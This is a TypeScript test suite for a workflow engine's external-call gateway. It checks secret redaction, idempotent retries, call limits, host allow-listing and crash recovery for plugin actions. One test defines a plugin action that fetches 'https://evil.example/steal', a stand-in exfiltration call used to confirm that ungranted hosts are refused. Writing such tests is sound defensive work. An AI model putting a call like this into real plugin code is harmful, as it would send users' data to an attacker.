import { afterEach, describe, expect, test } from 'vitest'
import type { JournalEntry } from '../../schemas/journal.ts'
import type { Step } from '../../schemas/step.ts'
import type { Store } from '../../engine/ports/store.ts'
import { canary, openCarrier, type CarrierParts, type CarrierShop } from '../support/carrier.ts'

let shop: CarrierShop
afterEach(() => shop.close())

const register = `async ({ code }, { http, settings }) => {
  const answer = await http.fetch(base + '/parcels?shop=' + settings.shop, {
    method: 'POST', headers: { authorization: 'Bearer {{secret:token}}' }, json: { code }
  })
  return { status: answer.status, ok: answer.ok, echoed: answer.body, id: answer.ok ? answer.json().id : null }
}`
const bothSteps: readonly Step[] = [
  { id: 'call', kind: 'action', action: 'carrier.register', input: { code: 'VN1' } },
  { id: 'after', kind: 'action', action: 'shop.echo', input: {} }
]
const callOnly = bothSteps.slice(0, 1)

async function open(parts: Partial<CarrierParts> & Pick<CarrierParts, 'answer'>): Promise<void> {
  shop = await openCarrier({ actions: { register }, ...parts })
}
/** Lets the isolate, the gateway and the store work, which take real time, until the run rests. */
async function untilStatus(runId: string, wanted: string): Promise<void> {
  await expect.poll(() => shop.status(runId), { timeout: 8_000 }).toBe(wanted)
}
async function start(): Promise<string> {
  const { runId } = await shop.engine.intake.startByHand('flow', {}, 'user:test')
  return runId ?? ''
}
const failures = (journal: readonly JournalEntry[]) =>
  journal.flatMap((entry) => (entry.kind === 'failed' ? [[entry.error.code, entry.retryAt]] : []))
const calls = async () => (await shop.store.calls.list({ limit: 20 })).calls

describe('an external action', () => {
  test('is answered by the outside, with its secret put in there and struck out here', async () => {
    await open({
      answer: ({ headers }, response) => response.writeHead(201).end(`{"id":"p1","you":"${headers.authorization}"}`)
    })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'completed')
    const [heard] = shop.far.heard
    expect(heard).toMatchObject({ method: 'POST', path: '/parcels?shop=Mai', body: '{"code":"VN1"}' })
    expect(heard?.headers).toMatchObject({ authorization: `Bearer ${canary}`, 'content-type': 'application/json' })
    const [done] = await shop.journal(runId)
    expect(done).toMatchObject({ kind: 'done', output: { status: 201, ok: true, id: 'p1' } })
    const kept = JSON.stringify([
      await shop.journal(runId),
      await calls(),
      await shop.store.pluginValues.secrets('carrier')
    ])
    expect(kept).not.toContain(canary)
  })

  test('is written down for the owner: who, where, how long, with which secrets, and never with what', async () => {
    await open({ answer: (_, response) => response.writeHead(200).end('{}') })
    await shop.publish(callOnly)
    await untilStatus(await start(), 'completed')
    const [call] = await calls()
    expect(call).toMatchObject({
      plugin: 'carrier',
      stepId: 'call',
      method: 'POST',
      url: `http://api.carrier.test:${shop.far.port}/parcels`,
      state: 'answered',
      status: 200,
      secrets: ['token']
    })
    expect(call?.key).toBe(shop.far.heard[0]?.headers['idempotency-key'])
  })

  test('that finds the far side busy is tried again, not before the time it asked for, with the same key', async () => {
    let isBusy = true
    await open({
      answer: (_, response) =>
        isBusy ? response.writeHead(429, { 'retry-after': '600' }).end() : response.writeHead(200).end('{"id":"p"}')
    })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'waiting')
    const at = shop.clock.now()
    expect(failures(await shop.journal(runId))).toEqual([['OUTSIDE_CALL_FAILED', at + 600_000]])
    isBusy = false
    await shop.clock.advance(600_000)
    await untilStatus(runId, 'completed')
    expect(new Set(shop.far.heard.map(({ headers }) => headers['idempotency-key'])).size).toBe(1)
    expect(shop.far.heard).toHaveLength(2)
  })

  test('whose answer was lost waits for a person, who has it called again with the same key', async () => {
    let isLost = true
    await open({ answer: (_, response) => (isLost ? response.destroy() : response.writeHead(200).end('{"id":"p"}')) })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'failed')
    expect(failures(await shop.journal(runId))).toEqual([['OUTSIDE_CALL_UNKNOWN', null]])
    expect((await calls())[0]).toMatchObject({ state: 'unknown', code: 'OUTSIDE_CALL_UNKNOWN' })
    isLost = false
    await shop.engine.control.retry(runId, 'user:mai')
    await shop.clock.advance(1)
    await untilStatus(runId, 'completed')
    expect(new Set(shop.far.heard.map(({ headers }) => headers['idempotency-key'])).size).toBe(1)
  })

  test('whose answer was lost is called again by itself where the far side honours keys', async () => {
    let count = 0
    await open({
      onUnknown: 'retry',
      answer: (_, response) => (++count === 1 ? response.destroy() : response.writeHead(200).end('{"id":"p"}'))
    })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'waiting')
    await shop.clock.advance(5_000)
    await untilStatus(runId, 'completed')
    expect(shop.far.heard).toHaveLength(2)
  })

  test('reaches no host that was not granted, and the step is not tried again', async () => {
    const actions = { register: `(_, { http }) => http.fetch('https://evil.example/steal')` }
    await open({ actions, answer: (_, response) => response.end() })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'failed')
    expect(failures(await shop.journal(runId))).toEqual([['OUTSIDE_CALL_REFUSED', null]])
    expect((await calls())[0]).toMatchObject({ state: 'refused', url: 'https://evil.example/steal' })
  })

  test('commits what was done before it calls, so that a call never rests on what may be undone', async () => {
    let seen = 'nothing'
    await open({
      handlers: {},
      actions: { register, first: '() => 1' },
      answer: (_, response) => {
        void shop.store.runs.find(runId).then(async (handle) => {
          seen = handle ? (await shop.store.runs.journal(handle)).map(({ kind }) => kind).join() : 'no run'
          response.writeHead(200).end('{"id":"p"}')
        })
      }
    })
    await shop.publish([{ id: 'first', kind: 'action', action: 'carrier.first', input: {} }, ...callOnly])
    const runId = await start()
    await untilStatus(runId, 'completed')
    expect(seen).toBe('done')
  })

  test('asks for no more than so many calls', async () => {
    const actions = {
      register: `async (_, { http }) => { for (let i = 0; i < 30; i++) await http.fetch(base + '/' + i) }`
    }
    await open({ actions, answer: (_, response) => response.writeHead(200).end('{}') })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'waiting')
    const [failed] = await shop.journal(runId)
    expect(failed).toMatchObject({
      error: { code: 'PLUGIN_LIMIT', details: { limit: 'questionsPerCallMax', max: 20 } }
    })
    expect(shop.far.heard).toHaveLength(20)
  })

  test('that does not say it is external has no way out', async () => {
    await open({
      answer: (_, response) => response.end(),
      manifest: {
        actions: [{ id: 'register', labels: { vi: 'g', en: 'g' }, input: { type: 'object' }, output: {} }]
      }
    })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'failed')
    expect(failures(await shop.journal(runId))).toEqual([['CAPABILITY_DENIED', null]])
    expect(shop.far.heard).toEqual([])
  })
})

const thingId = '0195f000-0000-7000-8000-00000000000a'

describe('a call that was made when its step is worked again', () => {
  test('is not sent again: its answer is used', async () => {
    // The record changes while the far side is asked, so the commit of the step is refused and the step worked again.
    const change = (name: string) =>
      shop.engine.intake.writeRecord(
        { op: 'update', entity: 'shop.thing', id: thingId, version: null, values: { name } },
        'api'
      )
    const update = `async (_, { http, records }) => {
      const thing = await records.get({ id: 'shop.thing' }, '${thingId}')
      const { body } = await http.fetch(base + '/parcels', { method: 'POST', json: { a: 1 } })
      records.update({ id: 'shop.thing' }, thing, { code: body })
      return { name: thing.name }
    }`
    const things = ['records:read:shop.thing', 'records:write:shop.thing']
    await open({
      actions: { register: update },
      more: things,
      answer: (_, response) => void change('changed').then(() => response.writeHead(200).end('A7'))
    })
    const thing = { op: 'create' as const, entity: 'shop.thing', id: thingId, values: { name: 'first' } }
    await shop.engine.intake.writeRecord(thing, 'api')
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'completed')
    expect(await shop.journal(runId)).toMatchObject([{ output: { name: 'changed' } }, { kind: 'finished' }])
    expect(await shop.store.records.get('shop.thing', thingId)).toMatchObject({ name: 'changed', code: 'A7' })
    expect(shop.far.heard).toHaveLength(1)
  })

  /** A store in which the first call stands already, as a process left it that died while the call was under way. */
  const leftByTheDead = (store: Store): Store => {
    let isFirst = true
    const begin: Store['calls']['begin'] = async (call, again) => {
      if (isFirst) await store.calls.begin(call)
      isFirst = false
      return store.calls.begin(call, again)
    }
    return { ...store, calls: { ...store.calls, begin } }
  }

  test('and may have left before a crash is left to a person', async () => {
    await open({ around: leftByTheDead, answer: (_, response) => response.writeHead(200).end('{"id":"p"}') })
    await shop.publish(callOnly)
    const runId = await start()
    await untilStatus(runId, 'failed')
    expect(failures(await shop.journal(runId))).toEqual([['OUTSIDE_CALL_UNKNOWN', null]])
    expect(shop.far.heard).toEqual([])
    await shop.engine.control.retry(runId, 'user:mai')
    await shop.clock.advance(1)
    await untilStatus(runId, 'completed')
    expect(shop.far.heard).toHaveLength(1)
  })

  test.each([
    ['only asks', { actions: { register: `(_, { http }) => http.fetch(base + '/parcels')` } }],
    ['goes where keys are honoured', { onUnknown: 'retry' as const }]
  ])('and may have left before a crash is sent again when it %s', async (_, parts) => {
    await open({ ...parts, around: leftByTheDead, answer: (__, response) => response.writeHead(200).end('{"id":"p"}') })
    await shop.publish(callOnly)
    await untilStatus(await start(), 'completed')
    expect(shop.far.heard).toHaveLength(1)
  })
})

describe('calls to the outside in a loop over items', () => {
  const loop = (steps: readonly Step[]): Step => ({
    id: 'each',
    kind: 'forEach',
    items: { cel: "['a', 'b', 'c']" },
    steps
  })
  const callItem: Step = { id: 'call', kind: 'action', action: 'carrier.register', input: { code: { cel: 'item' } } }
  const noteItem: Step = { id: 'note', kind: 'action', action: 'carrier.note', input: { code: { cel: 'item' } } }
  const actions = { register, note: `({ code }, { records }) => records.create({ id: 'shop.thing' }, { name: code })` }
  const more = ['records:write:shop.thing']
  const answer: CarrierParts['answer'] = (_, response) => response.writeHead(200).end('{"id":"p"}')

  test('are made for each item, after what the items before have changed is committed', async () => {
    await open({ actions, more, answer })
    await shop.publish([loop([callItem, noteItem])])
    const runId = await start()
    await untilStatus(runId, 'completed')
    expect(shop.far.heard.map(({ body }) => body)).toEqual(['a', 'b', 'c'].map((code) => `{"code":"${code}"}`))
    const pages = (await shop.journal(runId)).filter(({ kind }) => kind === 'paged')
    expect(pages).toHaveLength(3)
    expect(await shop.store.records.count('shop.thing')).toBe(3)
  })

  test('are refused after the same item has changed records', async () => {
    await open({ actions, more, answer })
    await shop.publish([loop([noteItem, callItem])])
    const runId = await start()
    await untilStatus(runId, 'failed')
    expect(failures(await shop.journal(runId))).toEqual([['OUTSIDE_CALL_IN_LOOP', null]])
    expect(shop.far.heard).toEqual([])
  })
})
